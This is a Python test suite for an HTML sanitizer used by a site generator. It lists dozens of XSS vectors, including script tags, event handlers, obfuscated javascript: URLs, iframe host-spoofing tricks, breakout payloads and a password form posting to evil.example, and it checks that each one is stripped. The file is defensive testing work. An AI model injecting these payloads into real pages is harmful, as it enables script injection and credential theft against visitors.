"""The allow-list every piece of foreign HTML passes: what must go, what must stay."""

from __future__ import annotations

import re

import pytest

from generator.sanitize import first_image, plain_text, sanitize_html, summarize

BASE = "https://guru.example/2026/11/materi/"

# (name, HTML, text that must be gone from the output (case-insensitive), text that must stay)
XSS = [
    ("script tag", "<p>Halo</p><script>alert(1)</script>", ["<script", "alert"], "Halo"),
    ("script in caps", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>Halo", ["script", "evil"],
     "Halo"),
    ("script split by a nested tag", "<scr<script>ipt>alert(1)</script>Halo",
     ["<script", "<scr"], "Halo"),
    ("img onerror", '<img src="x.png" onerror="alert(1)">Halo', ["onerror", "alert"], "Halo"),
    ("body onload", '<body onload="alert(1)">Halo</body>', ["onload", "<body"], "Halo"),
    ("event handler in caps", '<p ONCLICK="alert(1)">Halo</p>', ["onclick", "alert"], "Halo"),
    ("details ontoggle", '<details open ontoggle="alert(1)"><summary>Halo</summary></details>',
     ["ontoggle", "alert"], "Halo"),
    ("javascript link", '<a href="javascript:alert(1)">Halo</a>', ["javascript", "href"],
     "Halo"),
    ("javascript link in caps", '<a href="JaVaScRiPt:alert(1)">Halo</a>', ["javascript"],
     "Halo"),
    ("tab entity inside the scheme", '<a href="jav&#x09;ascript:alert(1)">Halo</a>',
     ["ascript", "alert"], "Halo"),
    ("newline entity inside the scheme", '<a href="java&#10;script:alert(1)">Halo</a>',
     ["script", "alert"], "Halo"),
    ("encoded colon", '<a href="javascript&colon;alert(1)">Halo</a>', ["javascript", "alert"],
     "Halo"),
    ("encoded letters", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;'
     '&#58;alert(1)">Halo</a>', ["alert", "href"], "Halo"),
    ("leading spaces and control characters", '<a href=" &#1; javascript:alert(1)">Halo</a>',
     ["javascript", "alert"], "Halo"),
    ("vbscript link", '<a href="vbscript:msgbox(1)">Halo</a>', ["vbscript", "msgbox"],
     "Halo"),
    ("data link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'
     "Halo</a>", ["data:", "base64"], "Halo"),
    ("data image", '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">Halo',
     ["data:", "onload"], "Halo"),
    ("svg with script", "<svg><script>alert(1)</script><circle r=1 /></svg>Halo",
     ["<svg", "alert", "<circle"], "Halo"),
    ("svg onload", '<svg onload="alert(1)">Halo</svg>', ["<svg", "onload"], "Halo"),
    ("math with a javascript link", '<math><mtext><a xlink:href="javascript:alert(1)">Halo'
     "</a></mtext></math>", ["<math", "javascript", "xlink"], None),
    ("object", '<object data="https://evil.example/x.swf"></object>Halo',
     ["<object", "evil.example"], "Halo"),
    ("embed", '<embed src="https://evil.example/x.swf">Halo', ["<embed", "evil.example"],
     "Halo"),
    ("form", '<form action="https://evil.example/"><input name="sandi">'
     "<button>Kirim</button></form>Halo", ["<form", "<input", "<button", "evil.example"],
     "Halo"),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">Halo',
     ["<meta", "refresh", "evil.example"], "Halo"),
    ("base", '<base href="https://evil.example/"><a href="a">Halo</a>',
     ["<base", "evil.example"], "Halo"),
    ("style element", "<style>body { background: url(https://evil.example/x) }</style>Halo",
     ["<style", "evil.example", "background"], "Halo"),
    ("link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">Halo',
     ["<link", "evil.example"], "Halo"),
    ("style attribute", '<p style="position:fixed;top:0;background:url(https://evil.example/)">'
     "Halo</p>", ["style", "evil.example", "position"], "Halo"),
    ("style attribute on a cell", '<table><tr><td style="text-align:left; '
     'background:url(https://evil.example/)">Halo</td></tr></table>', ["style", "evil.example"],
     "Halo"),
    ("iframe from another host", '<iframe src="https://evil.example/embed/x"></iframe>Halo',
     ["<iframe", "evil.example"], "Halo"),
    ("iframe over plain http", '<iframe src="http://www.youtube.com/embed/x"></iframe>Halo',
     ["<iframe"], "Halo"),
    ("iframe javascript", '<iframe src="javascript:alert(1)"></iframe>Halo',
     ["<iframe", "alert"], "Halo"),
    ("iframe srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>Halo',
     ["<iframe", "srcdoc", "alert"], "Halo"),
    ("iframe srcdoc beside an allowed src", '<iframe src="https://www.youtube.com/embed/x" '
     'srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>Halo', ["srcdoc", "alert"],
     "Halo"),
    ("iframe host hidden after a backslash", '<iframe src="https://evil.example\\@'
     'www.youtube.com/embed/x"></iframe>Halo', ["<iframe", "evil.example"], "Halo"),
    ("iframe host hidden as user name", '<iframe src="https://www.youtube.com@evil.example/">'
     "</iframe>Halo", ["<iframe", "evil.example"], "Halo"),
    ("iframe host that only starts like YouTube", '<iframe src="https://www.youtube.com.'
     'evil.example/embed/x"></iframe>Halo', ["<iframe", "evil.example"], "Halo"),
    ("iframe refused, src= inside its title", '<iframe title="x src=y" '
     'src="https://evil.example/"></iframe>Halo', ["<iframe", "evil.example"], "Halo"),
    ("frameset", '<frameset><frame src="https://evil.example/"></frameset>Halo',
     ["<frame", "evil.example"], None),
    ("noscript breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'
     "</noscript>Halo", ["onerror", "alert(1)"], "Halo"),
    ("comment breakout", "<!--<img src=x onerror=alert(1)>-->Halo", ["onerror", "<img"],
     "Halo"),
    ("textarea breakout", "<textarea><img src=x onerror=alert(1)></textarea>Halo",
     ["onerror", "<textarea"], "Halo"),
    ("template", "<template><img src=x onerror=alert(1)></template>Halo",
     ["onerror", "<template"], "Halo"),
    ("target and id", '<a href="https://guru.example/" target="_top" id="x" name="y">Halo</a>',
     ["target", "id=", "name="], "Halo"),
    # Found by tests/test_xss.py (vectors 1201, 1202): an iframe's content is raw text,
    # which a later reader of the page could take for markup.
    ("markup inside a kept iframe", '<iframe src="https://www.youtube.com/embed/abc">'
     "<img src=x onerror=alert(1)><iframe src=x></iframe>Halo",
     ["onerror", "<img", "src=x"], "Halo"),
]


@pytest.mark.parametrize(("name", "html", "gone", "kept"), XSS, ids=[v[0] for v in XSS])
def test_dangerous_html_is_removed(name: str, html: str, gone: list[str],
                                   kept: str | None) -> None:
    for base in (None, BASE):
        cleaned = sanitize_html(html, base)
        for fragment in gone:
            assert fragment.lower() not in cleaned.lower(), f"{name}: {cleaned!r}"
        if kept:
            assert kept in cleaned, f"{name}: {cleaned!r}"


def test_markdown_keeps_checkboxes_only() -> None:
    """Task lists need `<input type="checkbox">`; any other input would be a text box
    (tests/test_xss.py, vectors 1034, 1095, 1271, 1273, 1274)."""
    cleaned = sanitize_html('<input type="checkbox" checked><input type="submit">'
                            '<input autofocus onfocus="alert(1)"><input type="image" src="x">',
                            from_markdown=True)
    assert cleaned == '<input type="checkbox" checked="" disabled="disabled">'


def test_there_are_enough_vectors() -> None:
    assert len(XSS) >= 25


@pytest.mark.parametrize("src", [
    "https://www.youtube.com/embed/dQw4w9WgXcQ",
    "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=30",
])
def test_youtube_iframe_is_kept(src: str) -> None:
    cleaned = sanitize_html(f'<iframe src="{src}" width="560" height="315" allowfullscreen '
                            f'title="Video"></iframe>', BASE)
    assert f'src="{src.replace("&", "&amp;")}"' in cleaned
    assert 'width="560"' in cleaned
    assert 'height="315"' in cleaned
    assert "allowfullscreen" in cleaned
    assert 'loading="lazy"' in cleaned
    assert cleaned.endswith("</iframe>")


def test_youtube_without_www_is_written_as_the_csp_allows() -> None:
    # The pages' Content-Security-Policy allows frames from www.youtube.com only.
    cleaned = sanitize_html('<iframe src="https://youtube.com/embed/abc?rel=0&amp;t=5">'
                            "</iframe>")
    assert 'src="https://www.youtube.com/embed/abc?rel=0&amp;t=5"' in cleaned


def test_only_the_refused_iframe_goes() -> None:
    cleaned = sanitize_html('<iframe src="https://www.youtube.com/embed/a"></iframe>'
                            '<iframe src="https://evil.example/"></iframe><p>Halo</p>')
    assert cleaned.count("<iframe") == 1
    assert "youtube.com/embed/a" in cleaned
    assert cleaned.endswith("<p>Halo</p>")


def test_table_keeps_text_alignment_only() -> None:
    cleaned = sanitize_html('<table><thead><tr><th style="text-align: center">Nilai</th>'
                            '<th style="color: red">Nama</th></tr></thead><tbody><tr>'
                            '<td style="text-align:right;">90</td><td>Ani</td></tr></tbody>'
                            "</table>")
    assert '<th class="align-center">Nilai</th>' in cleaned
    assert "<th>Nama</th>" in cleaned
    assert '<td class="align-right">90</td>' in cleaned
    assert "color" not in cleaned


def test_images_load_lazily_and_resolve_against_the_base() -> None:
    cleaned = sanitize_html('<img src="../gambar/segitiga.png" alt="Segitiga" width="300">',
                            BASE)
    assert cleaned == ('<img src="https://guru.example/2026/11/gambar/segitiga.png" '
                       'alt="Segitiga" width="300" loading="lazy">')


def test_links_get_rel_noopener_and_resolve_against_the_base() -> None:
    cleaned = sanitize_html('<a href="/kontak/">Kontak</a> <a href="https://kemdikbud.go.id/">'
                            "Kemdikbud</a>", BASE)
    assert '<a href="https://guru.example/kontak/" rel="noopener noreferrer">Kontak</a>' \
        in cleaned
    assert '<a href="https://kemdikbud.go.id/" rel="noopener noreferrer">Kemdikbud</a>' \
        in cleaned


def test_without_a_base_relative_addresses_stay_relative() -> None:
    # Markdown posts: `grafik.svg` is copied beside the post's page.
    assert sanitize_html('<img src="grafik.svg" alt="Grafik">') == \
        '<img src="grafik.svg" alt="Grafik" loading="lazy">'


@pytest.mark.parametrize("href", ["mailto:guru@sekolah.sch.id", "tel:+62211234567"])
def test_mail_and_phone_links_stay(href: str) -> None:
    assert f'href="{href}"' in sanitize_html(f'<a href="{href}">Hubungi</a>', BASE)


def test_ordinary_markup_survives() -> None:
    html = ("<h2>Judul</h2><p><strong>a</strong> <em>b</em> x<sup>2</sup> H<sub>2</sub>O</p>"
            "<ul><li>satu</li></ul><ol><li>dua</li></ol><blockquote>kutipan</blockquote>"
            '<pre><code class="language-python">print(1)</code></pre>')
    assert sanitize_html(html) == html


@pytest.mark.parametrize(("fragment", "expected"), [
    ("A &amp; B", "A & B"),
    ("<b>x</b>", "x"),
    ("  Hukum\n  Newton  ", "Hukum Newton"),
    ("x &lt; y", "x < y"),
    ("Caf&eacute;&nbsp;Ilmu", "Café Ilmu"),
    ('<a href="javascript:alert(1)">Klik</a> <img src=x onerror=alert(1)>', "Klik"),
    ("<script>alert(1)</script>Judul", "Judul"),
])
def test_plain_text(fragment: str, expected: str) -> None:
    assert plain_text(fragment) == expected


def test_first_image_is_the_first_img_src() -> None:
    html = sanitize_html('<p>a</p><img src="/a.png?x=1&amp;y=2"><img src="/b.png">', BASE)
    assert first_image(html) == "https://guru.example/a.png?x=1&y=2"
    assert first_image("<p>tanpa gambar</p>") is None


def test_summarize_cuts_at_a_word_count() -> None:
    assert summarize("<p>satu dua</p><p>tiga empat lima</p>", words=4) == \
        "satu dua tiga empat …"
    assert summarize("<p>satu dua</p>", words=4) == "satu dua"


def test_tracking_pixels_are_dropped() -> None:
    html = ('<p>Materi</p><img src="https://pixel.wp.com/b.gif?host=x&amp;post=1" alt="">'
            '<img src="https://guru.example/counter.gif" width="1" height="1">'
            '<img src="https://guru.example/grafik.png" alt="Grafik" width="100">')
    cleaned = sanitize_html(html)
    assert "pixel.wp.com" not in cleaned and "counter.gif" not in cleaned
    assert 'src="https://guru.example/grafik.png"' in cleaned


def test_summary_skips_tables_code_and_figures() -> None:
    html = ("<table><tr><td>a</td><td>b</td></tr></table><p>Bentuk umum persamaan.</p>"
            "<pre><code>print(1)</code></pre><figure><img src='x.png'>"
            "<figcaption>Gambar</figcaption></figure><p>Selesai.</p>")
    assert summarize(html) == "Bentuk umum persamaan. Selesai."


@pytest.mark.parametrize(("allow", "kept"), [
    ("camera; microphone; geolocation", None),
    ("camera *; fullscreen", "fullscreen"),
    ("accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; "
     "picture-in-picture; web-share", "picture-in-picture; encrypted-media"),
    ("FULLSCREEN 'src'; usb; payment; display-capture", "fullscreen"),
    ("", None),
])
def test_an_embed_asks_the_browser_for_nothing_but_playing_video(allow: str,
                                                                 kept: str | None) -> None:
    """A feed's iframe kept `allow="camera; microphone; geolocation"` (issue 26): only
    what a video needs stays, for the embed's own origin."""
    cleaned = sanitize_html(f'<iframe src="https://www.youtube.com/embed/a" allow="{allow}">'
                            "</iframe>", BASE)
    assert "youtube.com/embed/a" in cleaned
    found = re.search(r' allow="([^"]*)"', cleaned)
    assert (found.group(1) if found else None) == kept
